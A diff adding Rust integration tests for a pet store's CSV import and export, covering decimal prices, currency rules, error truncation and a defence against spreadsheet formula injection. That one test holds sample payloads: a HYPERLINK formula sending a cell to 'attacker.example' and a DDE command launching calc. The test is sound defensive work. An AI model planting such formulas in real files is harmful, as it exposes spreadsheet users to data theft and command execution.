@@ -481,3 +481,295 @@ async fn reimporting_a_large_catalogue_with_every_price_changed_saves_them_all()
     let last = app.get_json("/pets?sku=SKU-04999").await;
     assert_eq!(last[0]["price"], json!(5199), "{last}");
 }
+
+/// The import of `csv` with a query (`?money=decimal&dryRun=true`, say).
+async fn import_with(app: &TestApp, query: &str, csv: &str) -> reqwest::Response {
+    app.send_raw(
+        Method::POST,
+        &format!("/store/import/pets{query}"),
+        Some("text/csv"),
+        csv.to_owned(),
+    )
+    .await
+}
+
+/// The price of the pet called `name`.
+async fn price_of(app: &TestApp, name: &str) -> serde_json::Value {
+    let pets = app.get_json("/pets?limit=100").await;
+    pets.as_array()
+        .unwrap()
+        .iter()
+        .find(|p| p["name"] == name)
+        .unwrap_or_else(|| panic!("no pet called {name}: {pets}"))["price"]
+        .clone()
+}
+
+#[tokio::test]
+async fn money_decimal_writes_and_reads_prices_in_the_currency_s_major_unit() {
+    let app = TestApp::spawn().await;
+    let dogs = app.category("Dogs").await;
+    for (name, price) in [
+        ("Beagle", json!(27000)),
+        ("Pug", json!(450)),
+        ("Mutt", json!(null)),
+    ] {
+        app.post(
+            "/pets",
+            json!({ "name": name, "categoryId": dogs, "price": price }),
+        )
+        .await;
+    }
+    let res = app.get("/store/export/pets.csv?money=decimal").await;
+    assert_eq!(res.status(), 200);
+    let text = res.text().await.unwrap();
+    let prices: Vec<&str> = text
+        .split("\r\n")
+        .skip(1)
+        .filter(|l| !l.is_empty())
+        .map(|l| l.split(',').nth(6).unwrap())
+        .collect();
+    assert_eq!(prices, ["270.00", "4.50", ""], "{text}");
+    let minor = app
+        .get("/store/export/pets.csv")
+        .await
+        .text()
+        .await
+        .unwrap();
+    assert!(
+        minor.contains(",27000,"),
+        "without it, minor units as in 1.1: {minor}"
+    );
+
+    // As a shop writes them: whole, one decimal, two, and a comma in a quoted cell.
+    let csv = "name,category,price\nCollie,Dogs,27\nBoxer,Dogs,27.5\nHusky,Dogs,27.50\nCorgi,Dogs,\"6,50\"\n";
+    let res = import_with(&app, "?money=decimal", csv).await;
+    assert_eq!(res.status(), 200, "{}", res.text().await.unwrap());
+    for (name, minor) in [
+        ("Collie", 2700),
+        ("Boxer", 2750),
+        ("Husky", 2750),
+        ("Corgi", 650),
+    ] {
+        assert_eq!(price_of(&app, name).await, json!(minor), "{name}");
+    }
+
+    // More decimals than the currency has is that line's error; nothing is imported.
+    let csv = "name,category,price\nDingo,Dogs,6.00\nAkita,Dogs,6.005\nLab,Dogs,six\n";
+    let res = import_with(&app, "?money=decimal", csv).await;
+    assert_eq!(res.status(), 422);
+    let failure = body(res).await;
+    let errors = failure["errors"].as_array().unwrap();
+    assert_eq!(errors.len(), 2, "{failure}");
+    assert_eq!(
+        (errors[0]["line"].as_i64(), errors[0]["field"].as_str()),
+        (Some(3), Some("price"))
+    );
+    assert!(
+        errors[0]["message"]
+            .as_str()
+            .unwrap()
+            .contains("too many decimal places"),
+        "{failure}"
+    );
+    assert_eq!(
+        (errors[1]["line"].as_i64(), errors[1]["field"].as_str()),
+        (Some(4), Some("price"))
+    );
+    assert!(
+        errors[1]["message"]
+            .as_str()
+            .unwrap()
+            .contains("such as 27.50"),
+        "{failure}"
+    );
+    assert!(app
+        .get_json("/pets?limit=100")
+        .await
+        .as_array()
+        .unwrap()
+        .iter()
+        .all(|p| p["name"] != "Dingo"));
+
+    // Without it, money stays in minor units: "6.00" is refused and says what unit it wants.
+    let res = import_with(&app, "", "name,category,price\nDingo,Dogs,6.00\n").await;
+    assert_eq!(res.status(), 422);
+    assert!(body(res).await["errors"][0]["message"]
+        .as_str()
+        .unwrap()
+        .contains("cents"));
+
+    // A currency without decimals (yen): whole amounts only, written without a point.
+    let res = app
+        .send_json(
+            Method::PATCH,
+            "/store/profile",
+            json!({ "currency": "JPY" }),
+        )
+        .await;
+    assert_eq!(res.status(), 200);
+    let text = app
+        .get("/store/export/pets.csv?money=decimal")
+        .await
+        .text()
+        .await
+        .unwrap();
+    assert!(text.contains(",27000,"), "{text}");
+    let res = import_with(
+        &app,
+        "?money=decimal&dryRun=true",
+        "name,category,price\nShiba,Dogs,450.5\n",
+    )
+    .await;
+    assert_eq!(res.status(), 422);
+    assert!(body(res).await["errors"][0]["message"]
+        .as_str()
+        .unwrap()
+        .contains("no decimal places"));
+    let res = import_with(
+        &app,
+        "?money=decimal&dryRun=true",
+        "name,category,price\nShiba,Dogs,450\n",
+    )
+    .await;
+    assert_eq!(res.status(), 200);
+
+    for path in [
+        "/store/export/pets.csv?money=cents",
+        "/store/export/stock-changes.csv?money=Decimal",
+    ] {
+        assert_error(app.get(path).await, 400, "bad_request").await;
+    }
+    assert_error(
+        import_with(&app, "?money=yes", "name,category\nA,Dogs\n").await,
+        400,
+        "bad_request",
+    )
+    .await;
+    let res = app
+        .get("/store/export/stock-changes.csv?money=decimal")
+        .await;
+    assert_eq!(
+        res.status(),
+        200,
+        "the history takes it too (it has no money column yet)"
+    );
+}
+
+#[tokio::test]
+async fn cells_a_spreadsheet_would_run_are_exported_as_text_and_import_back_as_they_were() {
+    let app = TestApp::spawn().await;
+    let link = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click for details\")";
+    let dde = "+cmd|' /C calc'!A0";
+    let cat = app.category(dde).await;
+    let res = app
+        .post(
+            "/pets",
+            json!({ "name": link, "categoryId": cat, "sku": "-5", "price": 100 }),
+        )
+        .await;
+    let pet = body(res).await["id"].as_i64().unwrap();
+    let plain = app.pet_with_stock("'=already quoted", cat, 2).await;
+    let (_, key) = app
+        .key_with(json!({ "name": "@SUM(A1)", "role": "staff", "plan": "business" }))
+        .await;
+    let res = app
+        .request_as(
+            &key,
+            Method::POST,
+            &format!("/store/inventory/{pet}/adjustments"),
+        )
+        .json(&json!({ "delta": 3, "reason": "-2+3 found" }))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(res.status(), 200);
+
+    let pets = export(&app).await;
+    assert!(pets.contains(",'-5,,\"'=HYPERLINK(\"\"http://attacker.example/?\"\"&A1,\"\"Click for details\"\")\",'+cmd|' /C calc'!A0,"), "{pets}");
+    assert!(
+        pets.contains(&format!("{plain},,,''=already quoted,")),
+        "{pets}"
+    );
+    let history = app
+        .get("/store/export/stock-changes.csv")
+        .await
+        .text()
+        .await
+        .unwrap();
+    assert!(
+        history.contains(",'-2+3 found,adjustment,,'@SUM(A1),"),
+        "{history}"
+    );
+    assert!(
+        history.contains(&format!(",{pet},3,3,")),
+        "the numbers are not touched: {history}"
+    );
+    for line in pets.lines().chain(history.lines()) {
+        for cell in line.split(',') {
+            let cell = cell.trim_start_matches('"');
+            assert!(
+                !cell.starts_with(['=', '+', '@']),
+                "a cell a spreadsheet would run: {cell:?} in {line:?}"
+            );
+        }
+    }
+
+    // The export imports back as it was: nothing changes, and the names keep their text.
+    let res = import(&app, &pets, false).await;
+    assert_eq!(res.status(), 200);
+    let summary = body(res).await;
+    assert_eq!(summary["unchanged"], 2, "{summary}");
+    assert_eq!(summary["updated"], 0, "{summary}");
+    let listed = app.get_json(&format!("/pets?ids={pet},{plain}")).await;
+    assert_eq!(listed[0]["name"], link);
+    assert_eq!(listed[0]["sku"], "-5");
+    assert_eq!(listed[1]["name"], "'=already quoted");
+    assert_eq!(app.get_json("/categories").await[0]["name"], dde);
+}
+
+#[tokio::test]
+async fn an_import_error_repeats_at_most_forty_characters_of_a_bad_cell() {
+    let app = TestApp::spawn().await;
+    app.category("Dogs").await;
+    let huge = "\u{7f}".repeat(400_000);
+    let csv = format!("name,category,quantity,price\nRex,Dogs,{huge},{huge}\n");
+    let res = import(&app, &csv, true).await;
+    assert_eq!(res.status(), 422);
+    let text = res.text().await.unwrap();
+    assert!(
+        text.len() < 2_000,
+        "a {} byte answer to a bad cell",
+        text.len()
+    );
+    let failure: serde_json::Value = serde_json::from_str(&text).unwrap();
+    let message = failure["errors"][0]["message"].as_str().unwrap();
+    assert!(
+        message.contains(&format!("{:?}", "\u{7f}".repeat(40))),
+        "{message}"
+    );
+    assert!(message.contains("399960 more characters"), "{message}");
+}
+
+#[tokio::test]
+async fn an_export_longer_than_one_chunk_lists_every_pet_once_in_order() {
+    let app = TestApp::spawn().await;
+    let mut csv = String::from("name,category,quantity\n");
+    for i in 0..1_234 {
+        csv.push_str(&format!("Guppy {i},Fish,{}\n", i % 7 + 1));
+    }
+    assert_eq!(import(&app, &csv, false).await.status(), 200);
+    let pets = export(&app).await;
+    let ids: Vec<i64> = pets
+        .lines()
+        .skip(1)
+        .map(|l| l.split(',').next().unwrap().parse().unwrap())
+        .collect();
+    assert_eq!(ids, (1..=1_234).collect::<Vec<i64>>());
+    let history = app
+        .get("/store/export/stock-changes.csv")
+        .await
+        .text()
+        .await
+        .unwrap();
+    assert_eq!(history.lines().count(), 1 + 1_234);
+}
